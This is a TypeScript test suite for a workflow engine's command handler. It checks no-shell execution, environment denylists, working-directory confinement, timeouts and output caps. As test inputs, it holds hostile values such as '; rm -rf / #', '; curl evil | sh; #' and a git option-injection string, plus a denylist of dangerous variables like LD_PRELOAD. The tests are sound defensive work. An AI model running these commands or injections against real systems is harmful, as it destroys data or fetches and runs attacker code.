// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these tests write handler configs in the ${…} syntax
import { existsSync, readFileSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CommandHandler, JsonObject } from '@openworkflow/schemas';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { failureOf } from '../test/failure.js';
import { invocationOf, secretsOf } from '../test/invocation.js';
import { type CommandHandlerOptions, createCommandHandler } from './command-handler.js';

const NODE = process.execPath;
const environment = { PATH: process.env.PATH ?? '/usr/bin:/bin', SECRET_TOKEN: 'must-not-leak' };
let root: string;

beforeAll(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), 'ow-command-')));
  await mkdir(join(root, 'scripts'));
  await mkdir(join(root, 'other'));
  await mkdir(join(root, 'sub'));
  for (const [path, body] of [
    ['scripts/ok.sh', '#!/bin/sh\necho \'{"script":"ok"}\'\n'],
    ['other/bad.sh', '#!/bin/sh\necho \'{"script":"bad"}\'\n'],
  ] as const) {
    await writeFile(join(root, path), body);
    await chmod(join(root, path), 0o755);
  }
  await symlink(join(root, 'other/bad.sh'), join(root, 'scripts/link.sh'));
  await symlink('/etc', join(root, 'etc-link'));
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

/** `node -e <script> [...args]` as a command handler. */
function nodeScript(
  script: string,
  extra: Partial<CommandHandler> = {},
  args: readonly string[] = [],
): CommandHandler {
  return { type: 'command', command: NODE, args: ['-e', script, ...args], env: {}, ...extra };
}

function run(
  handler: CommandHandler,
  input: JsonObject = {},
  options: Partial<CommandHandlerOptions> = {},
  signal?: AbortSignal,
) {
  const executor = createCommandHandler({ workspaceRoot: root, ...options });
  const secrets = secretsOf({ TOKEN: 'tok-123' });
  return executor.execute(
    invocationOf(handler, input, { environment, secrets, ...(signal ? { signal } : {}) }),
  );
}

const PRINT_ARGV = 'console.log(JSON.stringify(process.argv.slice(1)))';

describe('command handler: stdin, stdout, exit codes (C-46, C-47)', () => {
  it('writes the input as JSON to stdin and parses stdout as the output', async () => {
    const script =
      'let s="";process.stdin.on("data",d=>s+=d).on("end",()=>console.log(JSON.stringify({got:JSON.parse(s)})))';
    await expect(run(nodeScript(script), { city: 'Oslo', n: 2 })).resolves.toEqual({
      got: { city: 'Oslo', n: 2 },
    });
  });

  it('fails with stderr as the message on a non-zero exit', async () => {
    const error = await failureOf(run(nodeScript('console.error("disk full"); process.exit(3)')));
    expect(error.code).toBe('BACKEND_ERROR');
    expect(error.message).toBe('disk full');
    expect(error.details).toMatchObject({ exit_code: 3 });
  });

  it('bounds stderr in the message and flags the truncation', async () => {
    const error = await failureOf(
      run(nodeScript('process.stderr.write("e".repeat(1<<20), () => process.exit(1))')),
    );
    expect(error.message.length).toBeLessThanOrEqual(4097);
    expect(error.details.stderr_truncated).toBe(true);
  });

  it('unwraps the success envelope and fails on the error envelope, keeping the connector code', async () => {
    await expect(
      run(nodeScript('console.log(JSON.stringify({status:"success",data:{x:1}}))')),
    ).resolves.toEqual({ x: 1 });
    const error = await failureOf(
      run(
        nodeScript('console.log(JSON.stringify({status:"error",message:"no user",code:"USER_NOT_FOUND"}))'),
      ),
    );
    expect(error).toMatchObject({ code: 'BACKEND_ERROR', message: 'no user' });
    expect(error.details.connector_code).toBe('USER_NOT_FOUND');
  });

  it('returns text output as {stdout}, and empty output as null', async () => {
    await expect(run(nodeScript('console.log("plain text")'))).resolves.toEqual({
      stdout: 'plain text\n',
      truncated: false,
      stdout_bytes: 11,
    });
    await expect(run(nodeScript(''))).resolves.toBeNull();
  });

  it('reports a missing workspace root as a runtime configuration error', async () => {
    const error = await failureOf(run(nodeScript(''), {}, { workspaceRoot: join(root, 'missing') }));
    expect(error.code).toBe('INTERNAL_ERROR');
  });

  it('fails with UNAVAILABLE when the program does not exist', async () => {
    const error = await failureOf(
      run({ type: 'command', command: 'definitely-not-a-program', args: [], env: {} }),
    );
    expect(error.code).toBe('UNAVAILABLE');
  });
});

describe('no shell, ever (CMD-1, CMD-2, C-48)', () => {
  it('CMD-1: passes "; rm -rf / #" as one verbatim argv element', async () => {
    await expect(run(nodeScript(PRINT_ARGV, {}, ['; rm -rf / #']))).resolves.toEqual(['; rm -rf / #']);
  });

  it('CMD-2: no expansion, substitution or globbing', async () => {
    const args = ['$(id)', '`id`', 'a|b', 'a && b', 'a\nb', '*', '~', '$HOME'];
    await expect(run(nodeScript(PRINT_ARGV, {}, args))).resolves.toEqual(args);
  });

  it('CMD-3: literal options and a literal "--" pass through unchanged', async () => {
    // node itself stops reading options at the first `--`; the script sees what follows.
    const args = ['--', '--verbose', '--', '-x'];
    await expect(run(nodeScript(PRINT_ARGV, {}, args))).resolves.toEqual(['--verbose', '--', '-x']);
  });
});

describe('environment (CMD-4, CMD-5, CMD-6, C-50)', () => {
  it('C-50: passes handler env and only the allowlisted part of the run environment', async () => {
    const output = await run(
      nodeScript('console.log(JSON.stringify({g:process.env.GREETING,s:process.env.SECRET_TOKEN??null}))', {
        env: { GREETING: 'hi' },
      }),
    );
    expect(output).toEqual({ g: 'hi', s: null });
  });

  it.each([
    'NODE_OPTIONS',
    'LD_PRELOAD',
    'BASH_ENV',
    'PATH',
    'GIT_SSH_COMMAND',
    'path',
    'Ld_Library_Path',
    'DYLD_INSERT_LIBRARIES',
    'BASH_FUNC_x%%',
  ])('CMD-4: refuses %s before spawning anything', async (key) => {
    const marker = join(root, `spawned-${key.replace(/\W/g, '_')}`);
    const handler = nodeScript(`require("fs").writeFileSync(${JSON.stringify(marker)}, "x")`, {
      env: { [key]: 'x' },
    });
    const error = await failureOf(run(handler));
    if (/^[A-Za-z_][A-Za-z0-9_]*$/.test(key)) expect(error.details.rule).toBe('env_denylist');
    else expect(error.code).toBe('VALIDATION');
    expect(existsSync(marker)).toBe(false);
  });

  it.each(['A=B', '1X', 'A B', ''])('CMD-5: refuses the key %j', async (key) => {
    const error = await failureOf(run(nodeScript('', { env: { [key]: 'x' } })));
    expect(error.code).toBe('VALIDATION');
    expect(error.details.constraint).toBe('env_key');
  });

  it('CMD-6: refuses NUL bytes in arguments and env values with our own error', async () => {
    const inArg = await failureOf(run(nodeScript(PRINT_ARGV, {}, ['a\0b'])));
    expect(inArg.details).toEqual({ field: 'args[2]', constraint: 'no_nul' });
    const inEnv = await failureOf(run(nodeScript('', { env: { X: 'a\0b' } })));
    expect(inEnv.details).toEqual({ field: 'env.X', constraint: 'no_nul' });
  });
});

describe('what may run, and where (CMD-7, CMD-8, C-49, C-50)', () => {
  it.each(['run.cmd', 'RUN.BAT', 'scripts/x.bat', 'x.cmd.', 'x.bat  '])(
    'CMD-7: refuses the batch file %j on every platform',
    async (command) => {
      const error = await failureOf(run({ type: 'command', command, args: [], env: {} }));
      expect(error.details.rule).toBe('batch_file');
    },
  );

  it('CMD-7: refuses a symlink whose target is a batch file', async () => {
    await writeFile(join(root, 'sub/real.cmd'), '@echo off\n');
    await chmod(join(root, 'sub/real.cmd'), 0o755);
    await symlink(join(root, 'sub/real.cmd'), join(root, 'sub/innocent'));
    const error = await failureOf(run({ type: 'command', command: './sub/innocent', args: [], env: {} }));
    expect(error.details.rule).toBe('batch_file');
  });

  it.each(['../../etc', '/etc', 'etc-link', 'sub/../..'])(
    'CMD-8: refuses working_dir %j outside the workspace',
    async (workingDir) => {
      const error = await failureOf(run(nodeScript('', { workingDir })));
      expect(error.details.rule).toBe('working_dir_outside_workspace');
    },
  );

  it('C-50: runs in working_dir inside the workspace', async () => {
    await expect(
      run(nodeScript('console.log(JSON.stringify(process.cwd()))', { workingDir: 'sub' })),
    ).resolves.toBe(join(root, 'sub'));
  });

  it('C-49: allowedCommands accepts matching paths and refuses the rest, symlinks by their target', async () => {
    const allowedCommands = ['./scripts/*.sh'];
    const script = (command: string): CommandHandler => ({
      type: 'command',
      command,
      args: [],
      env: {},
      allowedCommands,
    });
    await expect(run(script('./scripts/ok.sh'))).resolves.toEqual({ script: 'ok' });
    for (const command of ['./other/bad.sh', './scripts/link.sh', NODE]) {
      const error = await failureOf(run(script(command)));
      expect(error.details.rule).toBe('command_not_allowed');
    }
  });

  it('C-49: a bare entry allows the program of that name from PATH; the operator list applies too', async () => {
    const handler: CommandHandler = {
      type: 'command',
      command: 'node',
      args: ['-e', 'console.log(1)'],
      env: {},
      allowedCommands: ['node'],
    };
    await expect(run(handler)).resolves.toBe(1);
    const error = await failureOf(run(handler, {}, { allowedCommands: ['./scripts/*'] }));
    expect(error.details.rule).toBe('command_not_allowed');
  });
});

describe('timeouts, cancellation and output caps (CMD-9, CMD-10)', () => {
  /** True while `pid` exists and is not a zombie waiting to be reaped. */
  function isAlive(pid: number): boolean {
    try {
      process.kill(pid, 0);
    } catch {
      return false;
    }
    try {
      return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
    } catch {
      return true;
    }
  }

  async function eventuallyDead(pid: number): Promise<boolean> {
    for (let tries = 0; tries < 100; tries += 1) {
      if (!isAlive(pid)) return true;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    return false;
  }

  const spawnGrandchild = (pidFile: string, ignoreTerm: boolean) =>
    [
      'const {spawn}=require("child_process");',
      `const g=spawn(process.execPath,["-e",${JSON.stringify(
        `${ignoreTerm ? 'process.on("SIGTERM",()=>{});' : ''}setInterval(()=>{},1000)`,
      )}],{stdio:"ignore"});`,
      `require("fs").writeFileSync(${JSON.stringify(pidFile)},String(g.pid));`,
      'setInterval(()=>{},1000);',
    ].join('');

  it.each([false, true])(
    'CMD-9: a timeout kills the whole process group, no orphan left (grandchild ignores SIGTERM: %s)',
    async (ignoreTerm) => {
      const pidFile = join(root, `grandchild-${ignoreTerm}.pid`);
      // Generous, so a loaded machine still starts both processes before the deadline.
      const error = await failureOf(
        run(nodeScript(spawnGrandchild(pidFile, ignoreTerm), { timeoutMs: 2000 })),
      );
      expect(error.code).toBe('TIMEOUT');
      expect(error.details.timeout_ms).toBe(2000);
      const pid = Number(readFileSync(pidFile, 'utf8'));
      expect(pid).toBeGreaterThan(0);
      expect(await eventuallyDead(pid)).toBe(true);
    },
  );

  it('reaps background processes left behind by a command that exits normally', async () => {
    const pidFile = join(root, 'background.pid');
    const script = `${spawnGrandchild(pidFile, true).replace('setInterval(()=>{},1000);', '')}process.exit(0)`;
    await run(nodeScript(script));
    expect(await eventuallyDead(Number(readFileSync(pidFile, 'utf8')))).toBe(true);
  });

  it('cancellation stops the process and reports CANCELED', async () => {
    const controller = new AbortController();
    const pending = run(nodeScript('setInterval(()=>{},1000)'), {}, {}, controller.signal);
    setTimeout(() => controller.abort(), 100);
    expect((await failureOf(pending)).code).toBe('CANCELED');
  });

  it('CMD-10: 100 MB of stdout is truncated at the cap with a marker and a flag', async () => {
    const script =
      'const b=Buffer.alloc(1<<20,97);let n=0;(function w(){while(n<100){n++;if(!process.stdout.write(b))return process.stdout.once("drain",w)}})()';
    const output = (await run(nodeScript(script))) as {
      stdout: string;
      truncated: boolean;
      stdout_bytes: number;
    };
    expect(output.truncated).toBe(true);
    expect(output.stdout_bytes).toBe(100 * 1024 * 1024);
    expect(output.stdout.startsWith('a'.repeat(1000))).toBe(true);
    expect(output.stdout.length).toBeLessThan(10 * 1024 * 1024 + 100);
    expect(output.stdout.endsWith('[truncated: 104857600 bytes in total]')).toBe(true);
  });
});

describe('templates in args and env (CMD-3, TI-6)', () => {
  it('renders args from the input, each value one verbatim argv element', async () => {
    const output = await run(nodeScript(PRINT_ARGV, {}, ['--', '${input.title}', 'x-${input.n}']), {
      title: '; curl evil | sh; #',
      n: 2,
    });
    expect(output).toEqual(['; curl evil | sh; #', 'x-2']);
  });

  it('CMD-3: refuses a user value that renders to an option, unless a literal "--" came first', async () => {
    const input = { ref: '--upload-pack=touch /tmp/x' };
    const marker = join(root, 'option-injection');
    const script = `require("fs").writeFileSync(${JSON.stringify(marker)}, "x")`;
    const error = await failureOf(run(nodeScript(script, {}, ['fetch', '${input.ref}']), input));
    expect(error.details).toMatchObject({ rule: 'option_injection', field: 'args[3]' });
    expect(existsSync(marker)).toBe(false);
    await expect(run(nodeScript(PRINT_ARGV, {}, ['--', 'fetch', '${input.ref}']), input)).resolves.toEqual([
      'fetch',
      '--upload-pack=touch /tmp/x',
    ]);
    await expect(run(nodeScript(PRINT_ARGV, {}, ['--', '--ref=${input.ref}']), input)).resolves.toEqual([
      '--ref=--upload-pack=touch /tmp/x',
    ]);
  });

  it('TI-6: a hostile value mapped into env stays data; secrets reach env values', async () => {
    const handler = nodeScript('console.log(JSON.stringify([process.env.TITLE, process.env.TOKEN]))', {
      env: { TITLE: '${input.title}', TOKEN: '${secrets.TOKEN}' },
    });
    await expect(run(handler, { title: '"; curl evil | sh; #' })).resolves.toEqual([
      '"; curl evil | sh; #',
      'tok-123',
    ]);
  });
});
